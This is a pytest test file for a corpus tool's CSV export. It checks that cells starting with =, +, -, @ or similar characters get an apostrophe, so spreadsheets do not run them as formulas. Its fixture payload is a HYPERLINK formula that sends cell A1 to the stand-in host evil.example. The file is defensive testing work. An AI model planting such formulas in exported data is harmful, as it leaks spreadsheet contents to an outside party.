"""CSV of document-derived text: no cell is a formula, numbers are numbers."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from corpus.answers.spreadsheet import guarded, write_csv

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"見出し")'
NUMBER = re.compile(r"[+-]?[0-9.]+(e[+-]?[0-9]+)?", re.IGNORECASE)


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+81&A1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1", " =1+1", "＝1+1", "＠A1", "-", "-inf"],
)
def test_text_that_a_spreadsheet_would_run_begins_with_an_apostrophe(text: str) -> None:
    assert guarded(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["", "稲穂", "1=1", "a@b.example", "https://a.example/?q=1", "'=1", "-5", "+0.25", "-1e-3",
     ".5", -5, -0.5, 3, True, None],
)  # fmt: skip
def test_numbers_and_other_text_stay(value: object) -> None:
    assert guarded(value) is value


@given(
    st.lists(
        st.one_of(st.text(), st.integers(), st.floats(allow_nan=False, allow_infinity=False)),
        min_size=1,
    )
)
def test_only_the_apostrophe_is_added_to_what_is_read_back(cells: list[object]) -> None:
    file = io.StringIO(newline="")
    write_csv(file, [f"c{i}" for i in range(len(cells))], [cells])
    file.seek(0)
    _, row = csv.reader(file)
    for read, cell in zip(row, map(str, cells), strict=True):
        assert read in (cell, f"'{cell}")
        assert read[:1] not in ("=", "+", "-", "@") or NUMBER.fullmatch(read)


@pytest.fixture(scope="module")
def hostile(run_corpus, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A harvest of two documents whose title and text are formulas."""
    folder = tmp_path_factory.mktemp("hostile")
    text = FORMULA + "という題の文章です。表計算の式として読まれてはいけません。"
    rows = [{"url": f"https://a.example/{i}", "title": FORMULA, "text": text * (i + 1)}
            for i in range(2)]  # fmt: skip
    lines = [json.dumps(row, ensure_ascii=False) for row in rows]
    (folder / "in.jsonl").write_text("\n".join(lines), "utf-8")
    run_corpus("harvest", folder / "in.jsonl", "--out", folder / "out", "-q")
    return folder / "out"


def test_explore_prints_titles_guarded_and_numbers_bare(run_corpus, hostile: Path) -> None:
    sql = "select title, -n_chars as n, '-5' as five from documents"
    printed = run_corpus("explore", hostile, sql, "--csv").stdout
    rows = list(csv.DictReader(io.StringIO(printed)))
    assert [row["title"] for row in rows] == ["'" + FORMULA] * 2
    assert all(int(row["n"]) < 0 and row["five"] == "-5" for row in rows)
    shown = json.loads(run_corpus("explore", hostile, sql, "--json").stdout)
    assert [row["title"] for row in shown] == [FORMULA] * 2  # JSON has no formulas


def test_the_tables_of_compare_are_guarded(run_corpus, hostile: Path, tmp_path: Path) -> None:
    profile = tmp_path / "p.toml"
    profile.write_text('[[rule]]\nname = "long"\nsignal = "n_chars"\nmin = 100\n')
    run_corpus("compare", hostile, "--profiles", profile, "--out", tmp_path / "plots")
    with (tmp_path / "plots" / "borders.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert rows and all(row["start"].startswith("'=HYPERLINK") for row in rows)
    assert all(float(row["value"]) > 0 for row in rows)
